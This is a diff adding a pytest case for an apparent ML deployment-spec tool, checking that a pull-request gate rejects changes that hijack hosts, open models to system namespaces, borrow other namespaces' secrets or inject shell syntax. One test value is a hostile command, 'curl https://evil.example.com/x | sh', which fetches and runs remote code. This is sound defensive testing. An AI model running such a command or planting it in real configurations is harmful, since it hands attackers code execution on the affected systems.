@@ -401,3 +401,33 @@ def test_promote_and_render_change_nothing_when_the_disk_is_full(repo, monkeypat
     code, out = run("promote", "recsys/ranker", "--from", "staging", "--to", "prod", "-C", repo)
     assert code == 1 and "[KF904] cannot write overlays: No space left on device; nothing was changed" in out
     assert tree_hash(repo) == before and not list(repo.glob(".kflowgen-swap-*"))
+
+
+# 12. network reach and credentials (issue 18) ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("rel, old, new, code", [
+    # a model taking another team's exposed host (its traffic would be split between the two)
+    ("specs/models/vision/resnet.yaml", "    replicas: 3", "    replicas: 3\n    host: ranker.ml.example.com", "KF344"),
+    # a host outside the environment's domain (the platform's own names, another company's)
+    ("specs/models/recsys/ranker.yaml", "host: ranker.ml.example.com", "host: argocd.example.com", "KF344"),
+    # callers that are not teams: opening a model to a system namespace
+    ("specs/models/recsys/ranker.yaml", "callers: [vision]", "callers: [vision, kube-system]", "KF344"),
+    # another namespace's Secret: there is no field for it
+    ("specs/experiments/vision/resnet-sweep.yaml", "  WANDB_API_KEY: {secret: wandb, key: api-key}",
+     "  WANDB_API_KEY: {secret: wandb, key: api-key, namespace: recsys}", "KF201"),
+    # shell syntax without a shell: never passed on as words
+    ("specs/experiments/nlp/bert-random.yaml", "run: python -m classifier.finetune --config configs/bert-base.yaml",
+     "run: python -m classifier.finetune; curl https://evil.example.com/x | sh", "KF327"),
+    # a hyperparameter spliced into the shell's text: refused unless it is "$@"
+    ("specs/experiments/vision/resnet-sweep.yaml", 'python train.py "$@"', "python train.py $@", "KF327"),
+])
+def test_a_pull_request_cannot_open_reach_or_take_a_host_or_credential(repo, rel, old, new, code):
+    spec = repo / rel
+    text = spec.read_text()
+    assert old in text
+    spec.write_text(text.replace(old, new, 1))
+    git(repo, "commit", "-qam", "pull request")
+    before = tree_hash(repo)
+    exit_code, out = run("gate", "--base", "HEAD~1", "-C", repo, "--format", "text")
+    assert exit_code == 1 and code in [c for where, c in codes(out) if where.startswith(rel + ":")], out
+    assert tree_hash(repo) == before
